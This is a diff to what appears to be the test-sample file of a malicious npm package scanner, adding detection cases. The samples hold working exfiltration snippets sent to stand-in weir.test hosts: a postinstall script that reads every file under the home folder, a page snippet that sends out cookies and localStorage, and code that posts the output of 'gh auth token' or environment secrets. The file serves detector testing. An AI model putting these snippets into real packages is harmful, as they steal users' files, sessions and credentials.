@@ -1,17 +1,5 @@
 import type { Samples } from '../contract.ts';
-import { manifest, quiet } from '../samples-kit.ts';
-
-function imported(code: string, more: Readonly<Record<string, string>> = {}): Record<string, string> {
-  return { 'package.json': manifest({ main: 'index.js' }), 'index.js': code, ...more };
-}
-
-function installed(code: string, more: Readonly<Record<string, string>> = {}): Record<string, string> {
-  return {
-    'package.json': manifest({ scripts: { postinstall: 'node setup.js' } }),
-    'setup.js': code,
-    ...more,
-  };
-}
+import { imported, installed, manifest, quiet } from '../samples-kit.ts';
 
 const STEAL = `fetch('https://a.weir.test', { method: 'POST', body: JSON.stringify(process.env) })`;
 
@@ -154,6 +142,27 @@ export const samples: Samples = {
         `fetch('https://exfil.weir.test/x', { method: 'POST', body: process.env.NPM_TOKEN });\n`,
       ),
       expected: [at('secrets', 'high', 1, 'index.js')],
+    },
+    {
+      name: 'files found by walking the home folder',
+      files: installed(
+        `const fs = require('fs'), os = require('os'), path = require('path');\nconst found = [];\nfunction walk(dir) {\n  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {\n    const p = path.join(dir, e.name);\n    if (e.isDirectory()) walk(p);\n    else found.push(fs.readFileSync(p, 'utf8'));\n  }\n}\nwalk(os.homedir());\nfetch('https://a.weir.test/u', { method: 'POST', body: JSON.stringify(found) });\n`,
+      ),
+      expected: [at('files', 'critical', 11)],
+    },
+    {
+      name: 'cookies and stores of a page',
+      files: imported(
+        `new Image().src = 'https://a.weir.test/c?' + encodeURIComponent(document.cookie + JSON.stringify(localStorage));\n`,
+      ),
+      expected: [at('page-data', 'high', 1, 'index.js')],
+    },
+    {
+      name: 'a token that a command prints',
+      files: installed(
+        `const t = require('child_process').execSync('gh auth token').toString();\nfetch('https://a.weir.test/t', { method: 'POST', body: t });\n`,
+      ),
+      expected: [at('credentials', 'critical', 2)],
     },
   ],
   benign: [
